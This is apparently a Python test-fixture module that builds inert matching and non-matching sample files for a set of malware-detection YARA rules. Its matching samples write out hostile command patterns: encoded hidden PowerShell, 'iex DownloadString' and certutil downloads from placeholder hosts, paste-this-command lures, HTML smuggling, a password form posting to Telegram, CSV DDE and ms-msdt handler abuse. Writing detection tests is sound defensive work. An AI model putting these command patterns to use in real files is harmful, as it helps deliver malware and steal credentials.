"""For each YARA rule that comes with gatepost a file that it matches, and one like it that it must not: all inert."""

import base64
import zipfile
from collections.abc import Callable
from io import BytesIO

from built_files.plain import build_zip

_PAD = base64.b64encode(bytes(range(256)) * 8).decode()
_COMMAND = base64.b64encode(
    "$a = 'this does nothing'; Write-Output $a; # and nothing else".encode("utf-16-le")
).decode()
_LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
_ONE_NOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)
_EMBEDDED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
_COLLIDING = bytes.fromhex("7f46dc93a6b67e013b029aaa1db2560b")  # as published in "The first collision for full SHA-1"
_PASSWORD = '<form method="post"><input type="password" name="p"></form>'


def _wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def _image(*names: str) -> bytes:
    """Give as much of a disk image as the rules look at: the mark of ISO 9660, and names in a folder."""
    return (
        bytes(32_769)
        + b"CD001\x01"
        + bytes(2_000)
        + b"".join(f"\x00{name};1\x00".encode() for name in names)
        + bytes(9)
    )


def _program(*marks: bytes) -> bytes:
    return b"MZ" + bytes(62) + b"".join(mark + bytes(16) for mark in marks)


def _smuggling(data: str, name: str) -> bytes:
    return (
        f"<html><body><script>var d='{data}';var b=atob(d);var u=new Uint8Array(b.length);"
        "for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');"
        f"a.href=URL.createObjectURL(new Blob([u]));a.download='{name}';a.click();</script></body></html>"
    ).encode()


def _stored(name: str, content: bytes) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo(name), content)
    return packed.getvalue()


# rule -> name and content of a file that it matches, name and content of one that is like it and honest
SAMPLES: dict[str, tuple[tuple[str, bytes], tuple[str, bytes]]] = {
    "encoded_powershell": (
        ("run.bat", f"@echo off\r\npowershell.exe -NoP -w hidden -enc {_COMMAND}\r\n".encode()),
        ("notes.txt", b"powershell -EncodedCommand takes a command in Base64, see the manual.\r\n"),
    ),
    "page_sends_passwords_to_telegram": (
        (
            "login.html",
            f"<html>{_PASSWORD}<script>fetch('https://api.telegram.org/bot1:x/send')</script></html>".encode(),
        ),
        ("bots.html", b"<html>How to make a bot: call https://api.telegram.org/bot123456/getMe</html>"),
    ),
    "sha1_collision": (
        ("one-half.pdf", (b"%PDF-1.3\n" + bytes(183) + _COLLIDING + bytes(90))),
        ("paper.pdf", b"%PDF-1.3\n" + bytes(200) + _COLLIDING),
    ),
    "search_on_file_server": (
        ("find.html", rb"<html><a href='search-ms:query=x&crumb=location:\\files.example\a'>open</a></html>"),
        ("find.txt", b"search-ms:query=oak&crumb=kind:document finds documents on this computer\r\n"),
    ),
    "text_orders_to_run_a_command": (
        ("help.txt", b"Press Windows + R, paste this and confirm:\r\npowershell iwr https://fix.example/a\r\n"),
        ("help2.txt", b"Press Windows + R, type notepad and confirm. More on https://help.example/.\r\n"),
    ),
    "downloaded_powershell": (
        (
            "get.ps1",
            b"$c = New-Object Net.WebClient\r\npowershell -ep bypass -c \"iex $c.DownloadString('http://x.example')\"\r\n",
        ),
        ("get2.ps1", b"Invoke-WebRequest https://tools.example/manual.pdf -OutFile manual.pdf\r\n"),
    ),
    "script_host_dropper": (
        (
            "scan.js",
            (
                b"var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');"
                b"var a=new ActiveXObject('ADODB.Stream');s.Run('x');\r\n"
            ),
        ),
        (
            "menu.js",
            b"var x = new XMLHttpRequest(); if (window.ActiveXObject) { x = new ActiveXObject('MSXML2.XMLHTTP'); }\r\n",
        ),
    ),
    "hta_with_shell": (
        (
            "form.hta",
            b"<html><HTA:APPLICATION ID='a'><script>new ActiveXObject('WScript.Shell').Run('x')</script></html>",
        ),
        ("form2.hta", b"<html><HTA:APPLICATION ID='a'><body>The opening hours of the workshop.</body></html>"),
    ),
    "batch_dropper": (
        ("setup.cmd", b"@echo off\r\ncertutil -urlcache -f http://x.example/a.txt a.exe\r\n"),
        ("check.cmd", b"@echo off\r\ncertutil -hashfile setup.msi SHA256\r\n"),
    ),
    "shuffled_batch": (
        (
            "letters.bat",
            b"@echo off\r\nset q=abcdefghijk\r\n" + b"".join(b"%%q:~%d,1%%" % number for number in range(40)),
        ),
        ("letters2.bat", b"@echo off\r\nset year=%date:~6,4%\r\nset day=%date:~0,1%\r\ncopy a b%year%\r\n"),
    ),
    "obfuscated_javascript": (
        (
            "a.js",
            b"var _0x1a2b=['push'];eval(String.fromCharCode(97));" + b"".join(b"_0x%04x();" % n for n in range(40)),
        ),
        ("b.js", b"function add(first, second) { return first + second; }\r\n" * 40),
    ),
    "double_encoded_script": (
        ("a.vbe", b"#@~^FgAAAA==\\ko$K6,JtnV^GJ@#@&HgYAAA==^#~@\x00"),
        ("a.vbs", b'MsgBox "#@~ is how encoded scripts begin"\r\n'),
    ),
    "shortcut_to_interpreter": (
        ("invoice.lnk", _LINK + _wide("C:\\Windows\\System32\\mshta.exe")),
        ("manual.lnk", _LINK + _wide("C:\\Users\\ann\\Documents\\manual.pdf")),
    ),
    "shortcut_with_hidden_command": (
        ("cv.lnk", _LINK + _wide(" " * 300 + "/c x")),
        ("cv2.lnk", _LINK + _wide("A name with a few    blanks.pdf")),
    ),
    "shortcut_with_attached_file": (
        ("plan.lnk", _LINK + b"%PDF-1.4" + bytes(120_000)),
        ("plan2.lnk", _LINK + bytes(2_000)),
    ),
    "internet_shortcut_to_file_server": (
        ("a.url", b"[InternetShortcut]\r\nURL=file://files.example@80/share/a.exe\r\n"),
        ("b.url", b"[InternetShortcut]\r\nURL=https://woodwork.example/offer\r\nIconFile=C:\\icons\\a.ico\r\n"),
    ),
    "page_builds_a_file": (
        ("invoice.html", _smuggling("UEsDB" + _PAD, "invoice.pdf")),
        ("chart.html", _smuggling("iVBOR" + _PAD, "chart.png")),
    ),
    "page_orders_to_paste_a_command": (
        (
            "captcha.html",
            (
                b"<html>1. Press <b>Windows</b> + <b>R</b> 2. Press <b>Ctrl</b> + <b>V</b>"
                b"<script>navigator.clipboard.writeText('mshta x')</script></html>"
            ),
        ),
        ("copy.html", b"<html>Press Ctrl+V.<script>navigator.clipboard.writeText('powershell')</script></html>"),
    ),
    "page_hides_its_form": (
        ("voice.html", b"<html><script>document.write(unescape('" + b"%3c%66%6f" * 200 + b"'))</script></html>"),
        ("menu.html", b"<html><script>document.write(unescape('%3Cbr%3E'))</script></html>"),
    ),
    "page_of_a_known_kit": (
        (
            "sign-in.html",
            f"<html><img src='https://logo.clearbit.com/x'>{_PASSWORD}<script>var e=atob(location.hash);"
            "$.ajax({url:'https://x.example/next.php'})</script></html>".encode(),
        ),
        ("forum.html", f"<html><div title='https://forum.example/login.php'>{_PASSWORD}</div></html>".encode()),
    ),
    "rtf_equation_object": (
        ("order.rtf", rb"{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}"),
        ("order2.rtf", rb"{\rtf1 The equation of the third kind is solved on page 3.}"),
    ),
    "rtf_object_that_updates_itself": (
        ("news.rtf", rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105000002000000}}}"),
        ("news2.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}"),
    ),
    "onenote_with_program": (
        ("page.one", _ONE_NOTE + _EMBEDDED + bytes(20) + b"@echo off\r\n"),
        ("page2.one", _ONE_NOTE + _EMBEDDED + bytes(20) + b"%PDF-1.4"),
    ),
    "office_handler_of_a_url": (
        (
            "a.html",
            b"<html><script>location.href='ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x'</script></html>",
        ),
        ("b.html", b"<html>Problems with ms-msdt: links were mended in June 2022.</html>"),
    ),
    "excel_dde_command": (
        ("list.csv", b"name,sum\r\n=cmd|' /C calc'!A0,1\r\n"),
        ("list2.csv", b"name,sum\r\n=A1+B2,cmd | more\r\n"),
    ),
    "image_with_shortcut_or_script": (
        ("scan.iso", _image("INVOICE.LNK")),
        ("songs.iso", _image("SONG.MP3", "README.TXT")),
    ),
    "archive_of_one_script": (
        ("offer.zip", build_zip({"offer.js": b"// nothing\r\n"})),
        ("site.zip", build_zip({"index.html": b"<p>", "menu.js": b"// nothing\r\n"})),
    ),
    "archive_in_archive_with_script": (
        ("outer.zip", _stored("inner.zip", build_zip({"offer.wsf": b"<job></job>"}))),
        ("outer2.zip", _stored("inner.zip", build_zip({"offer.txt": b"Oak, 40 mm.\r\n"}))),
    ),
    "ace_archive": (("old.ace", bytes(7) + b"**ACE**" + bytes(30)), ("old.txt", b"The **ACE** of spades\r\n")),
    "program_made_of_a_script": (("tool.exe", _program(b"AU3!EA06")), ("tool2.exe", _program(b"AutoIt is a language"))),
    "packed_program": (("small.exe", _program(b"UPX0", b"UPX!")), ("small2.exe", _program(b"UPX0"))),
}


def _give(content: bytes) -> Callable[[], bytes]:
    return lambda: content


FILES = {name: _give(content) for pair in SAMPLES.values() for name, content in pair}
